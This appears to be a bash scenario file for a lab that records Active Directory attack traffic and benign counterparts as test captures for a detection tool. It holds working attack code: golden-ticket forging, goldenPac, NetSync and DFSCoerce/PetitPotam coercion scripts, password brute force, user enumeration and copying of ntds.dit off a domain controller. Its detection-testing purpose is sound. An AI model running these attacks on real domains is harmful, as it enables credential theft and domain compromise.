# Extra scenarios for ../shared/lab/make-captures.sh, recorded into testdata/lab-extra/ by
#   sudo ../shared/lab/make-captures.sh up
#   sudo env VARIANT_FILE=$PWD/testdata/lab-extra/scenarios.sh ORTHRUS_BIN=$PWD/target/debug/orthrus \
#        ONLY="honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups golden_ticket_ghost \
#             forged_pac benign_no_pac_client dpapi_backupkey_bkrp benign_bkrp_restore \
#             netsync smb_ntds_exfil benign_sysvol_read ldap_attribute_recon golden_ticket_rc4 golden_ticket_kvno \
#             dfs_coerce efs_coerce benign_dfs_query cldap_user_enum benign_dc_locator \
#             ntlm_relay_drop_mic ntlm_relay_dc_account dnshostname_spoofing benign_computer_rename \
#             adfs_dkm_read benign_adfs_service_read shadow_credentials dcshadow_registration printnightmare \
#             gpo_defender_disabled benign_gpo_edit golden_ticket_lifetime benign_expired_tgt overpass_windows_workstation \
#             ntlm_relay_exchange_account smb_admin_share_copy" \
#        ../shared/lab/make-captures.sh run testdata/lab-extra
#   sudo ../shared/lab/make-captures.sh down
# Sourced by the lab script after its own definitions: it uses the lab's framework (cap_begin,
# on, expect, cap_end) and its accounts; the pass parameters are the main pass's.

SCEN_LIST="$SCEN_LIST honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups golden_ticket_ghost forged_pac benign_no_pac_client dpapi_backupkey_bkrp benign_bkrp_restore"

sc_honeytoken_ldap_query() {
  cap_begin honeytoken_ldap_query attack T1087.002 "$ATK_IP" "$HONEY_USER" \
    "LDAP queries aimed at the honeytoken with a phished account ($RECON_USER): by sAMAccountName, by UPN, and a base read of its DN, over clear-text simple binds."
  local L=(ldapsearch -LLL -x -H "ldap://$DC_IP" -D "$RECON_USER@$DNSDOM" -w "$RECON_PASS" -b "$BASEDN")
  on atk -- "${L[@]}" "(sAMAccountName=$HONEY_USER)" cn description memberOf pwdLastSet
  on atk -- "${L[@]}" "(&(objectClass=user)(userPrincipalName=$HONEY_USER@$DNSDOM))" sAMAccountName
  on atk -- ldapsearch -LLL -x -H "ldap://$DC_IP" -D "$RECON_USER@$DNSDOM" -w "$RECON_PASS" \
    -b "CN=$HONEY_USER,CN=Users,$BASEDN" -s base '(objectClass=*)' servicePrincipalName userAccountControl
  expect 'ldap.protocolOp==3' 3
  expect "ldap.assertionValue==\"$HONEY_USER\""
  cap_end
}

sc_honeytoken_samr_query() {
  cap_begin honeytoken_samr_query attack T1087.002 "$ATK_IP" "$HONEY_USER" \
    "SAM-R queries aimed at the honeytoken with a phished account ($RECON_USER): SamrLookupNamesInDomain for its name, then SamrOpenUser and SamrQueryInformationUser on its RID (rpcclient)."
  on atk 60 -- rpcclient -s "$WORK/client.conf" -U "$DOMAIN\\$RECON_USER%$RECON_PASS" --use-kerberos=disabled "$DC_IP" \
    -c "samlookupnames domain $HONEY_USER"
  local rid
  rid=$(ip netns exec "$NS_ATK" "${CL_ENV[@]}" rpcclient -s "$WORK/client.conf" -U "$DOMAIN\\$RECON_USER%$RECON_PASS" \
        --use-kerberos=disabled "$DC_IP" -c "samlookupnames domain $HONEY_USER" 2>/dev/null | awk '/\(/{print $3; exit}')
  on atk 60 -- rpcclient -s "$WORK/client.conf" -U "$DOMAIN\\$RECON_USER%$RECON_PASS" --use-kerberos=disabled "$DC_IP" \
    -c "queryuser ${rid:-0}"
  expect 'samr.opnum==17' 1
  expect 'samr.opnum==34 && samr.rid > 0' 1
  cap_end
}

sc_ldap_bind_bruteforce() {
  cap_begin ldap_bind_bruteforce attack T1110.001 "$ATK_IP" "$NTLM_BRUTE_USER" \
    "LDAP simple-bind brute force against one account ($NTLM_BRUTE_USER): 15 wrong passwords, then the right one (ldapwhoami)."
  local p
  for p in Password1 Welcome1 Summer2024 Winter2024 Autumn2024 Spring2024 Passw0rd P@ssw0rd Company1 Letmein1 Qwerty123 Admin123 Changeme1 Monday1 Secret123; do
    on atk -- ldapwhoami -x -H "ldap://$DC_IP" -D "$NTLM_BRUTE_USER@$DNSDOM" -w "$p"
  done
  on atk -- ldapwhoami -x -H "ldap://$DC_IP" -D "$NTLM_BRUTE_USER@$DNSDOM" -w "$NTLM_BRUTE_PASS"
  expect 'ldap.protocolOp==1 && ldap.resultCode==49' 15
  expect 'ldap.protocolOp==1 && ldap.resultCode==0' 1
  cap_end
}

sc_ntlm_user_enum() {
  cap_begin ntlm_user_enum attack T1087.002 "$ATK_IP" "${ENUM_FAKE// /, }, ${ENUM_REAL// /, }" \
    "Account enumeration over NTLM: SMB session setups with a dictionary of candidate names and a dummy password. On the wire every attempt fails alike (STATUS_LOGON_FAILURE); the DC's log tells unknown names (NT_STATUS_NO_SUCH_USER) from wrong passwords."
  local u
  for u in $ENUM_FAKE a.smith b.jones c.brown d.white e.black f.green g.grey h.wood i.stone j.hill $ENUM_REAL; do
    on atk -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\$u%Guess123!" --use-kerberos=disabled -L "//$DC_IP"
  done
  expect 'ntlmssp.messagetype==3' 20
  cap_end
}

sc_benign_directory_lookups() {
  cap_begin benign_directory_lookups benign none "$WS_IP" "bob, IT Staff, Domain Admins" \
    "An admin's ordinary directory and SAM-R use from the workstation: looking a colleague and a group up over LDAP, listing Domain Admins' members and a user's groups over SAM-R, and two mistyped LDAP binds before the right one."
  local L=(ldapsearch -LLL -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -b "$BASEDN")
  on ws -- "${L[@]}" "(sAMAccountName=bob)" cn mail memberOf
  on ws -- "${L[@]}" "(&(objectClass=group)(cn=IT Staff))" member
  on ws 60 -- rpcclient -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=disabled "$DC_IP" \
    -c "samlookupnames domain bob"
  on ws 60 -- net rpc group members "Domain Admins" -s "$WORK/client.conf" -S "$DC_IP" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=disabled
  on ws -- ldapwhoami -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "wrong-once"
  on ws -- ldapwhoami -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "wrong-twice"
  on ws -- ldapwhoami -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS"
  expect 'ldap.protocolOp==3' 2
  expect 'samr' 1
  cap_end
}

sc_golden_ticket_ghost() {
  krbtgt_keys
  local sid forged=ghost_admin rid=500; sid=$(cat "$WORK/domain.sid")
  cap_begin golden_ticket_ghost attack T1558.001 "$ATK_IP" "$forged (no such account), cifs/$DCFQDN, ldap/$DCFQDN" \
    "Golden ticket for an account that does not exist: a TGT for $forged (RID $rid, Domain Admins etc. in the PAC) forged offline with impacket ticketer from the krbtgt AES key, then used for service tickets with no AS exchange."
  on atk -- "$VPY" "$IMP/ticketer.py" -aesKey "$(cat "$WORK/krbtgt.aes")" -domain-sid "$sid" -domain "$DNSDOM" -user-id "$rid" -groups 512,513,518,519,520 "$forged"
  cp -f "$WORK/tmp/$forged.ccache" "$WORK/cc/atk-golden" 2>/dev/null
  on atk -- "$VPY" "$WORK/tools/ccache_kvno.py" "$WORK/cc/atk-golden" "$(cat "$WORK/krbtgt.kvno")"
  EXTRA_ENV=$(cc atk-golden) on atk -- kvno "cifs/$DCFQDN@$REALM" "ldap/$DCFQDN@$REALM"
  expect "kerberos.msg_type==12 && ip.src==$ATK_IP"
  expect_none 'kerberos.msg_type==10'
  cap_end
}

# Small impacket clients for the scenarios below (the lab's own tools live in $WORK/tools too).
extra_tools() {
  mkdir -p "$WORK/tools"
  cat > "$WORK/tools/no_pac_client.py" <<'PYEOF'
# A client that asks for a TGT without a PAC (PA-PAC-REQUEST include-pac=FALSE), as some
# non-Windows Kerberos clients do, then asks ordinary service tickets with it.
# usage: no_pac_client.py REALM USER PASSWORD KDC SPN...
import sys
from impacket.krb5 import constants
from impacket.krb5.kerberosv5 import getKerberosTGT, getKerberosTGS
from impacket.krb5.types import Principal
realm, user, pw, kdc = sys.argv[1:5]
name = Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
tgt, cipher, _, key = getKerberosTGT(name, pw, realm, '', '', None, kdc, requestPAC=False)
for spn in sys.argv[5:]:
    server = Principal(spn, type=constants.PrincipalNameType.NT_SRV_INST.value)
    try:
        getKerberosTGS(server, realm, kdc, tgt, cipher, key)
        print('ticket for', spn)
    except Exception as e:
        print('no ticket for', spn, e)
PYEOF
  cat > "$WORK/tools/bkrp_call.py" <<'PYEOF'
# One MS-BKRP BackuprKey call over \pipe\protected_storage.
# usage: bkrp_call.py DOMAIN USER PASSWORD HOST retrieve|restore integrity|privacy
import sys
from impacket.dcerpc.v5 import transport, bkrp
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_INTEGRITY, RPC_C_AUTHN_LEVEL_PKT_PRIVACY
dom, user, pw, host, action, level = sys.argv[1:7]
t = transport.DCERPCTransportFactory(r'ncacn_np:%s[\PIPE\protected_storage]' % host)
t.set_credentials(user, pw, dom, '', '')
dce = t.get_dce_rpc()
dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY if level == 'privacy' else RPC_C_AUTHN_LEVEL_PKT_INTEGRITY)
dce.connect()
dce.bind(bkrp.MSRPC_UUID_BKRP)
if action == 'retrieve':
    guid, data = bkrp.BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID, b'\x00' * 4
else:
    # A master-key backup blob's shape (version 2, 36 bytes of header) with no valid secret:
    # the DC answers with an error, as it does for a client whose blob is stale.
    guid, data = bkrp.BACKUPKEY_RESTORE_GUID, b'\x02\x00\x00\x00' + b'\x00' * 32
try:
    resp = bkrp.hBackuprKey(dce, guid, data)
    print(action, level, 'answered', len(resp['ppDataOut']), 'bytes')
except Exception as e:
    print(action, level, 'refused:', e)
dce.disconnect()
PYEOF
}

sc_forged_pac() {
  extra_tools
  cap_begin forged_pac attack T1558.001 "$ATK_IP" "krbtgt/$REALM, cifs/$DCFQDN" \
    "Forged authorization data (MS14-068, impacket goldenPac) with a phished account ($RECON_USER): its SID from SAM-R, a TGT asked without a PAC (include-pac=FALSE), then a TGS-REQ for krbtgt whose enc-authorization-data carries a PAC the attacker built (Domain Admins etc.); the patched DC does not honour it."
  on atk 120 -- "$VPY" "$IMP/goldenPac.py" -dc-ip "$DC_IP" -target-ip "$DC_IP" "$DOMAIN/$RECON_USER:$RECON_PASS@$DCFQDN" whoami
  expect 'kerberos.msg_type==10 && kerberos.include_pac==0'
  expect 'kerberos.msg_type==12 && kerberos.enc_authorization_data_element'
  cap_end
}

sc_benign_no_pac_client() {
  extra_tools
  cap_begin benign_no_pac_client benign none "$WS_IP" "cifs/$DCFQDN, ldap/$DCFQDN" \
    "A client that asks its TGT without a PAC (include-pac=FALSE, as some non-Windows Kerberos stacks do) and then ordinary service tickets, with no authorization data of its own."
  on ws 60 -- "$VPY" "$WORK/tools/no_pac_client.py" "$REALM" alice "$ALICE_PASS" "$DC_IP" "cifs/$DCFQDN" "ldap/$DCFQDN"
  expect 'kerberos.msg_type==10 && kerberos.include_pac==0'
  expect 'kerberos.msg_type==13' 2
  expect_none 'kerberos.enc_authorization_data_element'
  cap_end
}

sc_dpapi_backupkey_bkrp() {
  extra_tools
  cap_begin dpapi_backupkey_bkrp attack T1555.004 "$ATK_IP" "$DCFQDN (BackupKey)" \
    "DPAPI domain backup key requested over MS-BKRP with a Domain Admin's credentials ($DA_USER): BackuprKey with the retrieve-backup-key GUID over \\\\pipe\\\\protected_storage, signed but not sealed, so the GUID is visible (impacket bkrp)."
  on atk 60 -- "$VPY" "$WORK/tools/bkrp_call.py" "$DOMAIN" "$DA_USER" "$DA_PASS" "$DC_IP" retrieve integrity
  expect 'dcerpc.cn_bind_to_uuid == 3dde7c30-165d-11d1-ab8f-00805f14db40'
  expect 'dcerpc.opnum==0 && dcerpc.pkt_type==0'
  cap_end
}

sc_benign_bkrp_restore() {
  extra_tools
  cap_begin benign_bkrp_restore benign none "$WS_IP" "$DCFQDN (BackupKey)" \
    "A workstation user's DPAPI master-key restore request (what Windows does after a password reset): BackuprKey with the restore GUID, once signed and once sealed."
  on ws 60 -- "$VPY" "$WORK/tools/bkrp_call.py" "$DOMAIN" alice "$ALICE_PASS" "$DC_IP" restore integrity
  on ws 60 -- "$VPY" "$WORK/tools/bkrp_call.py" "$DOMAIN" alice "$ALICE_PASS" "$DC_IP" restore privacy
  expect 'dcerpc.opnum==0 && dcerpc.pkt_type==0' 2
  cap_end
}

SCEN_LIST="$SCEN_LIST netsync smb_ntds_exfil benign_sysvol_read ldap_attribute_recon"

# DC side (local sam.ldb, no network): the DC's own machine account NT hash -> $WORK/dcmachine.nt,
# what mimikatz netsync needs (an attacker who dumped one DC's secrets, or a DC's backup).
dc_machine_hash() {
  dcns $PY - "$PREFIX/private/sam.ldb" "$PREFIX/etc/smb.conf" "${DCNAME^^}\$" > "$WORK/dcmachine.nt" 2>"$WORK/dcmachine.err" <<'PYEOF'
import sys, binascii
from samba import param
from samba.samdb import SamDB
from samba.auth import system_session
lp = param.LoadParm(); lp.load(sys.argv[2])
db = SamDB(url=sys.argv[1], session_info=system_session(), lp=lp)
m = db.search(base=db.domain_dn(), expression='(sAMAccountName=%s)' % sys.argv[3], attrs=['unicodePwd'])[0]
print(binascii.hexlify(m['unicodePwd'][0]).decode())
PYEOF
  [ -s "$WORK/dcmachine.nt" ] || { cat "$WORK/dcmachine.err" >&2; log "WARN: could not read the DC's machine hash"; }
}

netsync_tool() {
  mkdir -p "$WORK/tools"
  cat > "$WORK/tools/netsync.py" <<'PYEOF'
# What mimikatz `lsadump::netsync` sends, with impacket: a Netlogon secure channel opened as a
# DC's own machine account (ServerSecureChannel) from another host with that account's NT hash,
# then NetrServerTrustPasswordsGet and NetrServerGetTrustInfo for a target computer account.
# usage: netsync.py DC_IP DC_NAME NT_HASH TARGET_ACCOUNT
import sys, binascii
from impacket.dcerpc.v5 import transport, nrpc, epm
dc_ip, dc_name, nthash, target = sys.argv[1:5]
binding = epm.hept_map(dc_ip, nrpc.MSRPC_UUID_NRPC, protocol='ncacn_ip_tcp')
dce = transport.DCERPCTransportFactory(binding).get_dce_rpc()
dce.connect()
dce.bind(nrpc.MSRPC_UUID_NRPC)
server, account, channel = '\\\\' + dc_name + '\x00', dc_name + '$\x00', nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
client_challenge = b'\x11\x22\x33\x44\x55\x66\x77\x88'
server_challenge = nrpc.hNetrServerReqChallenge(dce, server, dc_name + '\x00', client_challenge)['ServerChallenge']
key = nrpc.ComputeSessionKeyAES('', client_challenge, server_challenge, binascii.unhexlify(nthash))
credential = nrpc.ComputeNetlogonCredentialAES(client_challenge, key)
resp = nrpc.hNetrServerAuthenticate3(dce, server, account, channel, dc_name + '\x00', credential, 0x612fffff)
print('secure channel as', dc_name + '$', 'flags', hex(resp['NegotiateFlags']))
for call in (nrpc.hNetrServerTrustPasswordsGet, nrpc.hNetrServerGetTrustInfo):
    try:
        auth = nrpc.ComputeNetlogonAuthenticatorAES(credential, key)
        resp = call(dce, server, target + '\x00', nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel, dc_name + '\x00', auth)
        print(call.__name__, 'answered for', target)
    except Exception as e:
        print(call.__name__, 'refused:', e)
dce.disconnect()
PYEOF
}

sc_netsync() {
  dc_machine_hash; netsync_tool
  cap_begin netsync attack T1003.006 "$ATK_IP" "WS01\$ (machine secret)" \
    "NetSync (mimikatz lsadump::netsync): from a non-DC, a Netlogon secure channel as the DC's own machine account ($DCNAME\$, ServerSecureChannel, with its dumped NT hash), then NetrServerTrustPasswordsGet and NetrServerGetTrustInfo for the computer account WS01\$ (impacket nrpc)."
  on atk 60 -- "$VPY" "$WORK/tools/netsync.py" "$DC_IP" "${DCNAME^^}" "$(cat "$WORK/dcmachine.nt")" 'WS01$'
  expect 'netlogon.opnum==26'
  expect 'netlogon.opnum==42'
  expect 'netlogon.opnum==46'
  cap_end
}

# Files an attacker stages on the DC before copying them off (ntds.dit from a shadow copy, the
# registry hives saved with `reg save`): copies of the DC's own database under SYSVOL's temp folder.
stage_dc_files() {
  local d="$PREFIX/state/sysvol/$DNSDOM/temp"
  mkdir -p "$d"
  head -c 524288 "$PREFIX/private/sam.ldb" > "$d/ntds.dit"   # its first pages: enough for the wire
  head -c 262144 /dev/urandom > "$d/SYSTEM.save"
  head -c 65536 /dev/urandom > "$d/SAM.save"; chmod 0644 "$d"/*
}

sc_smb_ntds_exfil() {
  stage_dc_files
  cap_begin smb_ntds_exfil attack T1048.003 "$ATK_IP" "$DCFQDN (ntds.dit, SYSTEM, SAM)" \
    "Data exfiltration over SMB: with a Domain Admin's credentials ($DA_USER), the attacker copies a staged ntds.dit and saved SYSTEM/SAM hives from the DC's share to its own host (smbclient get)."
  on atk 90 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=disabled "//$DC_IP/sysvol" \
    -c "cd $DNSDOM/temp; get ntds.dit $WORK/tmp/ntds.dit; get SYSTEM.save $WORK/tmp/SYSTEM.save; get SAM.save $WORK/tmp/SAM.save"
  expect 'smb2.filename contains "ntds.dit"'
  expect 'smb2.cmd==8 && smb2.flags.response==1' 3
  cap_end
}

sc_benign_sysvol_read() {
  cap_begin benign_sysvol_read benign none "$WS_IP" "$DCFQDN (SYSVOL policies)" \
    "A workstation reading group policy files from SYSVOL as a user does at logon (GPT.INI, GptTmpl.inf through smbclient), and listing the share."
  on ws 60 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\alice%$ALICE_PASS" --use-kerberos=disabled "//$DC_IP/sysvol" \
    -c "cd $DNSDOM/Policies; ls; cd {31B2F340-016D-11D2-945F-00C04FB984F9}; get GPT.INI $WORK/tmp/GPT.INI; cd MACHINE/Microsoft/Windows NT/SecEdit; get GptTmpl.inf $WORK/tmp/GptTmpl.inf"
  expect 'smb2.filename contains "GPT.INI"'
  cap_end
}

sc_ldap_attribute_recon() {
  cap_begin ldap_attribute_recon attack T1087.002 "$ATK_IP" "$BASEDN (LAPS, delegation, key credentials, security descriptors)" \
    "Active Directory attributes reconnaissance with a phished account ($RECON_USER): directory-wide searches for LAPS passwords, constrained and resource-based delegation, shadow credentials (msDS-KeyCredentialLink) and every object's security descriptor (ldapsearch, as PowerView / ldapdomaindump modules do)."
  local L=(ldapsearch -LLL -x -H "ldap://$DC_IP" -D "$RECON_USER@$DNSDOM" -w "$RECON_PASS" -E pr=500/noprompt -b "$BASEDN")
  on atk -- "${L[@]}" '(objectClass=computer)' sAMAccountName ms-Mcs-AdmPwd msLAPS-Password
  on atk -- "${L[@]}" '(msDS-AllowedToDelegateTo=*)' sAMAccountName msDS-AllowedToDelegateTo
  on atk -- "${L[@]}" '(msDS-AllowedToActOnBehalfOfOtherIdentity=*)' sAMAccountName
  on atk -- "${L[@]}" '(objectClass=user)' sAMAccountName msDS-KeyCredentialLink
  on atk -- "${L[@]}" -E '!1.2.840.113556.1.4.801=::MAMCAQc=' '(objectClass=*)' nTSecurityDescriptor
  expect 'ldap.protocolOp==3' 5
  expect 'ldap.AttributeDescription=="ms-Mcs-AdmPwd"'
  cap_end
}

SCEN_LIST="$SCEN_LIST golden_ticket_rc4 golden_ticket_kvno"

# Ordinary workstation logons first, so the recording shows the TGTs this KDC issues (their
# encryption type and key version) before the forged one is presented.
workstation_logons() {
  kinit_pw ws ws-alice alice "$ALICE_PASS"
  kinit_pw ws ws-carol carol "$CAROL_PASS"
  kinit_pw ws ws-da "$DA_USER" "$DA_PASS"
  EXTRA_ENV=$(cc ws-alice) on ws -- kvno "cifs/$DCFQDN@$REALM"
}

sc_golden_ticket_rc4() {
  krbtgt_keys
  local sid forged=Administrator rid=500; sid=$(cat "$WORK/domain.sid")
  cap_begin golden_ticket_rc4 attack T1558.001 "$ATK_IP" "$forged (forged RC4 TGT), cifs/$DCFQDN, ldap/$DCFQDN" \
    "Golden ticket forged the mimikatz way, with the krbtgt NT hash: an RC4-HMAC TGT for $forged (RID $rid, Domain Admins etc. in the PAC) from impacket ticketer -nthash, presented in TGS-REQs with no AS exchange, while the KDC issues AES256 TGTs to the workstation's users (three logons recorded first)."
  workstation_logons
  on atk -- "$VPY" "$IMP/ticketer.py" -nthash "$(cat "$WORK/krbtgt.nt")" -domain-sid "$sid" -domain "$DNSDOM" -user-id "$rid" -groups 512,513,518,519,520 "$forged"
  cp -f "$WORK/tmp/$forged.ccache" "$WORK/cc/atk-golden-rc4" 2>/dev/null
  on atk -- "$VPY" "$WORK/tools/ccache_kvno.py" "$WORK/cc/atk-golden-rc4" "$(cat "$WORK/krbtgt.kvno")"
  EXTRA_ENV=$(cc atk-golden-rc4) on atk -- kvno "cifs/$DCFQDN@$REALM" "ldap/$DCFQDN@$REALM"
  expect "kerberos.msg_type==12 && ip.src==$ATK_IP" 2
  expect "kerberos.msg_type==11 && ip.dst==$WS_IP" 3
  cap_end
}

sc_golden_ticket_kvno() {
  krbtgt_keys
  local sid forged=Administrator rid=500; sid=$(cat "$WORK/domain.sid")
  cap_begin golden_ticket_kvno attack T1558.001 "$ATK_IP" "$forged (forged TGT, wrong key version), cifs/$DCFQDN" \
    "Golden ticket whose key version is not krbtgt's: a TGT for $forged forged with the krbtgt AES key by impacket ticketer, left with the key version number forging tools write (2, as mimikatz does) while this KDC's krbtgt is at $(cat "$WORK/krbtgt.kvno" 2>/dev/null); presented in TGS-REQs after three ordinary logons (Samba checks the number and refuses, Windows KDCs do not)."
  workstation_logons
  on atk -- "$VPY" "$IMP/ticketer.py" -aesKey "$(cat "$WORK/krbtgt.aes")" -domain-sid "$sid" -domain "$DNSDOM" -user-id "$rid" -groups 512,513,518,519,520 "$forged"
  cp -f "$WORK/tmp/$forged.ccache" "$WORK/cc/atk-golden-kvno" 2>/dev/null
  EXTRA_ENV=$(cc atk-golden-kvno) on atk -- kvno "cifs/$DCFQDN@$REALM"
  expect "kerberos.msg_type==12 && ip.src==$ATK_IP"
  expect "kerberos.msg_type==11 && ip.dst==$WS_IP" 3
  cap_end
}

SCEN_LIST="$SCEN_LIST dfs_coerce efs_coerce benign_dfs_query"

coerce_tool() {
  mkdir -p "$WORK/tools"
  cat > "$WORK/tools/coerce.py" <<'PYEOF'
# The coercion calls of DFSCoerce (MS-DFSNM NetrDfsRemoveStdRoot / NetrDfsAddStdRoot over
# \pipe\netdfs) and PetitPotam (MS-EFSR EfsRpcOpenFileRaw / EfsRpcEncryptFileSrv over
# \pipe\lsarpc and \pipe\efsrpc), with the listener's name as the server or UNC path.
# usage: coerce.py dfs|efs DOMAIN USER PASSWORD TARGET LISTENER
import sys
from impacket.dcerpc.v5 import transport
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.dtypes import WSTR, DWORD, ULONG
from impacket.uuid import uuidtup_to_bin

class NetrDfsAddStdRoot(NDRCALL):
    opnum = 12
    structure = (('ServerName', WSTR), ('RootShare', WSTR), ('Comment', WSTR), ('ApiFlags', DWORD))
class NetrDfsRemoveStdRoot(NDRCALL):
    opnum = 13
    structure = (('ServerName', WSTR), ('RootShare', WSTR), ('ApiFlags', DWORD))
class EfsRpcOpenFileRaw(NDRCALL):
    opnum = 0
    structure = (('FileName', WSTR), ('Flag', ULONG))
class EfsRpcEncryptFileSrv(NDRCALL):
    opnum = 4
    structure = (('FileName', WSTR),)

mode, dom, user, pw, target, listener = sys.argv[1:7]
def connect(pipe, uuid, version):
    t = transport.DCERPCTransportFactory(r'ncacn_np:%s[\PIPE\%s]' % (target, pipe))
    t.set_credentials(user, pw, dom, '', '')
    dce = t.get_dce_rpc()
    dce.connect()
    dce.bind(uuidtup_to_bin((uuid, version)))
    return dce
def call(dce, request):
    try:
        dce.request(request)
        print(type(request).__name__, 'answered')
    except Exception as e:
        print(type(request).__name__, 'refused:', e)
if mode == 'dfs':
    dce = connect('netdfs', '4fc742e0-4a10-11cf-8273-00aa004ae673', '3.0')
    r = NetrDfsRemoveStdRoot(); r['ServerName'] = listener + '\x00'; r['RootShare'] = 'test\x00'; r['ApiFlags'] = 1
    call(dce, r)
    r = NetrDfsAddStdRoot(); r['ServerName'] = listener + '\x00'; r['RootShare'] = 'test\x00'; r['Comment'] = '\x00'; r['ApiFlags'] = 0
    call(dce, r)
else:
    for pipe, uuid in (('lsarpc', 'c681d488-d850-11d0-8c52-00c04fd90f7e'), ('efsrpc', 'df1941c5-fe89-4e79-bf10-463657acf44d')):
        try:
            dce = connect(pipe, uuid, '1.0')
        except Exception as e:
            print('bind', pipe, 'refused:', e)
            continue
        r = EfsRpcOpenFileRaw(); r['FileName'] = '\\\\%s\\share\\file.txt\x00' % listener; r['Flag'] = 0
        call(dce, r)
        r = EfsRpcEncryptFileSrv(); r['FileName'] = '\\\\%s\\share\\file.txt\x00' % listener
        call(dce, r)
PYEOF
}

sc_dfs_coerce() {
  coerce_tool
  cap_begin dfs_coerce attack T1187 "$ATK_IP" "$DCFQDN (MS-DFSNM)" \
    "DFSCoerce: with a phished account ($RECON_USER), NetrDfsRemoveStdRoot and NetrDfsAddStdRoot over \\\\pipe\\\\netdfs naming the attacker's host ($ATK_IP) as the DFS server, to make the DC authenticate to it (impacket, as DFSCoerce.py does)."
  on atk 60 -- "$VPY" "$WORK/tools/coerce.py" dfs "$DOMAIN" "$RECON_USER" "$RECON_PASS" "$DC_IP" "$ATK_IP"
  expect 'netdfs.opnum==13'
  expect 'netdfs.opnum==12'
  cap_end
}

sc_efs_coerce() {
  coerce_tool
  cap_begin efs_coerce attack T1187 "$ATK_IP" "$DCFQDN (MS-EFSR)" \
    "PetitPotam: with a phished account ($RECON_USER), binds MS-EFSR over \\\\pipe\\\\lsarpc and \\\\pipe\\\\efsrpc and calls EfsRpcOpenFileRaw / EfsRpcEncryptFileSrv with a UNC path on the attacker's host ($ATK_IP) (impacket, as PetitPotam.py does). Samba serves no MS-EFSR: the binds are refused."
  on atk 60 -- "$VPY" "$WORK/tools/coerce.py" efs "$DOMAIN" "$RECON_USER" "$RECON_PASS" "$DC_IP" "$ATK_IP"
  expect 'dcerpc.cn_bind_to_uuid == c681d488-d850-11d0-8c52-00c04fd90f7e'
  cap_end
}

sc_benign_dfs_query() {
  cap_begin benign_dfs_query benign none "$WS_IP" "$DCFQDN (MS-DFSNM)" \
    "A workstation admin reading the DC's DFS namespace information (rpcclient dfsversion, dfsenum): management reads, no root added or removed."
  on ws 60 -- rpcclient -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=disabled "$DC_IP" -c "dfsversion; dfsenum 1"
  expect 'netdfs'
  cap_end
}

SCEN_LIST="$SCEN_LIST cldap_user_enum benign_dc_locator"

cldap_tool() {
  mkdir -p "$WORK/tools"
  cat > "$WORK/tools/cldap_ping.py" <<'PYEOF'
# CLDAP "LDAP ping" (MS-ADTS 6.3.3) over UDP 389, as the DC locator sends it and as
# Ldapnomnom uses it to test user names: base "", scope base, filter
# (&(DnsDomain=D)(User=NAME)(AAC=\10\00\00\00)(NtVer=\06\00\00\00)) (AAC: normal accounts),
# attribute Netlogon. Prints the reply's
# opcode (23 LOGON_SAM_LOGON_RESPONSE_EX: exists or no user asked; 25: user unknown).
# usage: cldap_ping.py DC_IP DNS_DOMAIN [NAME...]   (no NAME: one locator ping without User)
import socket, struct, sys
from pyasn1.codec.ber import encoder, decoder
from impacket.ldap import ldapasn1 as la
dc, domain, names = sys.argv[1], sys.argv[2], sys.argv[3:] or [None]
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(2)
def equality(attr, value):
    f = la.Filter()
    f['equalityMatch']['attributeDesc'] = attr
    f['equalityMatch']['assertionValue'] = value
    return f
for i, name in enumerate(names, 1):
    search = la.SearchRequest()
    search['baseObject'] = ''
    search['scope'] = la.Scope('baseObject')
    search['derefAliases'] = la.DerefAliases('neverDerefAliases')
    search['sizeLimit'] = 0
    search['timeLimit'] = 0
    search['typesOnly'] = False
    parts = [equality('DnsDomain', domain)]
    if name:
        parts.append(equality('User', name))
        parts.append(equality('AAC', struct.pack('<I', 0x10)))
    parts.append(equality('NtVer', struct.pack('<I', 6)))
    search['filter']['and'].extend(parts)
    search['attributes'].append('Netlogon')
    msg = la.LDAPMessage()
    msg['messageID'] = i
    msg['protocolOp']['searchRequest'] = search
    sock.sendto(encoder.encode(msg), (dc, 389))
    try:
        data, _ = sock.recvfrom(65535)
        entry, _ = decoder.decode(data, asn1Spec=la.LDAPMessage())
        value = bytes(entry['protocolOp']['searchResEntry']['attributes'][0]['vals'][0])
        print(name, 'opcode', struct.unpack('<H', value[:2])[0])
    except Exception as e:
        print(name, 'no answer:', e)
PYEOF
}

sc_cldap_user_enum() {
  cldap_tool
  cap_begin cldap_user_enum attack T1087.002 "$ATK_IP" "${ENUM_FAKE// /, }, ${ENUM_REAL// /, }" \
    "Account enumeration through CLDAP pings (Ldapnomnom's method), unauthenticated: one LDAP ping over UDP 389 per candidate name (User=NAME), 26 names of which 4 exist; the DC's Netlogon reply tells which (opcode 23 vs 25 LOGON_SAM_USER_UNKNOWN_EX)."
  on atk 120 -- "$VPY" "$WORK/tools/cldap_ping.py" "$DC_IP" "$DNSDOM" $ENUM_FAKE a.smith b.jones c.brown d.white e.black f.green g.grey h.wood i.stone j.hill k.ford l.moss $ENUM_REAL
  expect 'cldap && ldap.protocolOp==3' 26
  cap_end
}

sc_benign_dc_locator() {
  cldap_tool
  cap_begin benign_dc_locator benign none "$WS_IP" "$DCFQDN (DC locator)" \
